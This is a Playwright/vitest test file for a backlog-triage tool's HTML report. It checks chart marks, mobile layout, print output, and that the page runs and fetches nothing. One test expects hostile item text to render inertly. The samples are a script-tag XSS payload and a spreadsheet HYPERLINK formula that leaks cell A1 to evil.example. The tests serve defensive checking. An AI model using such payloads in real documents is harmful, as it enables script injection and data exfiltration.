/**
 * The HTML report opened in a real headless Chromium (test/helpers/browser.ts says which:
 * Debian's where the machine has it, else the one an npm dev dependency ships): the chart
 * draws one mark per item, nothing runs or is fetched, hostile item text shows as text, and
 * a screenshot and a PDF are kept in test-results/.
 */
import { mkdirSync, mkdtempSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium } from '../helpers/browser.js';
import { repoPath, triage } from '../helpers/run.js';

const ARTEFACTS = repoPath('test-results');
/** 22 example items and 6 hostile ones. */
const ITEMS = 28;

describe('the HTML report in Chromium', () => {
  let browser: Browser;
  let page: Page;
  const seen = { errors: [] as string[], dialogs: [] as string[], requests: [] as string[] };

  beforeAll(async () => {
    const dir = mkdtempSync(join(tmpdir(), 'triage-html-'));
    const file = join(dir, 'report.html');
    const run = triage(['score', 'examples/backlog.csv', 'test/fixtures/reports/hostile.csv', '-f', 'html', '-o', file]);
    expect([run.code, run.stderr]).toEqual([0, `wrote ${file}\n`]);

    browser = await launchChromium();
    page = await browser.newPage({ viewport: { width: 1100, height: 900 } });
    page.on('console', (message) => {
      if (message.type() === 'error' || message.type() === 'warning') seen.errors.push(message.text());
    });
    page.on('pageerror', (error) => seen.errors.push(String(error)));
    page.on('dialog', (dialog) => {
      seen.dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    page.on('request', (request) => seen.requests.push(request.url()));
    await page.goto(pathToFileURL(file).href, { waitUntil: 'load' });
  }, 60000);

  afterAll(async () => {
    await browser?.close();
  });

  it('draws one mark per item, each inside the chart and with its item as a tooltip', async () => {
    const marks = page.locator('svg.chart g.dot');
    expect(await marks.count()).toBe(ITEMS);
    const chart = (await page.locator('svg.chart').boundingBox())!;
    for (const mark of await marks.all()) {
      const box = (await mark.boundingBox())!;
      expect(box.width).toBeGreaterThan(5);
      expect(box.x).toBeGreaterThanOrEqual(chart.x);
      expect(box.x + box.width).toBeLessThanOrEqual(chart.x + chart.width);
      expect(box.y).toBeGreaterThanOrEqual(chart.y);
      expect(box.y + box.height).toBeLessThanOrEqual(chart.y + chart.height);
    }
    const tips = await page.locator('svg.chart g.dot > title').allTextContents();
    expect(tips).toHaveLength(ITEMS);
    expect(tips[0]).toBe('WI-01 Discharge to assess pathway redesign\nThe Union\nalignment 69, transformation 100 (transformational)');
    expect(await page.locator('svg.chart .threshold line').count()).toBe(3);
  });

  it('runs nothing, fetches nothing and logs no error', async () => {
    expect(await page.locator('script, img, iframe, object, embed, link').count()).toBe(0);
    expect(seen.errors).toEqual([]);
    expect(seen.dialogs).toEqual([]);
    expect(seen.requests).toHaveLength(1);
    expect(seen.requests[0]).toMatch(/^file:\/\/.*report\.html$/);
  });

  it('shows hostile item text as text', async () => {
    const text = await page.locator('body').innerText();
    expect(text).toContain("<script>alert('title')</script>");
    expect(text).toContain('=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")');
  });

  it('fits a phone: with every explanation open, nothing widens the page beyond 420 px', async () => {
    const phone = await browser.newPage({ viewport: { width: 420, height: 800 } });
    await phone.goto(page.url());
    for (const summary of await phone.locator('details > summary').all()) await summary.click();
    expect(await phone.locator('details[open]').count()).toBe(ITEMS);
    expect(await phone.evaluate('document.documentElement.scrollWidth')).toBe(420);
    await phone.close();
  });

  it('opens an explanation without any script, and hides closed ones on paper', async () => {
    const details = page.locator('details#item-6');
    expect(await details.getAttribute('open')).toBe(null);
    await details.locator('summary').click();
    expect(await details.getAttribute('open')).toBe('');
    expect(await details.locator('h4').first().textContent()).toBe('Alignment 14/100 — the weighted mean of principle scores');

    mkdirSync(ARTEFACTS, { recursive: true });
    await page.screenshot({ path: join(ARTEFACTS, 'html-report.png'), fullPage: true });
    expect(statSync(join(ARTEFACTS, 'html-report.png')).size).toBeGreaterThan(50000);

    await page.emulateMedia({ media: 'print' });
    const visible = (selector: string): Promise<number> => page.locator(selector).filter({ visible: true }).count();
    expect([await visible('details.explain'), await visible('section.explanations'), await visible('.print-only')]).toEqual([1, 1, 1]);
    await page.pdf({ path: join(ARTEFACTS, 'html-report.pdf'), format: 'A4', printBackground: true });
    expect(statSync(join(ARTEFACTS, 'html-report.pdf')).size).toBeGreaterThan(20000);
    await page.emulateMedia({ media: 'screen' });
  });
});
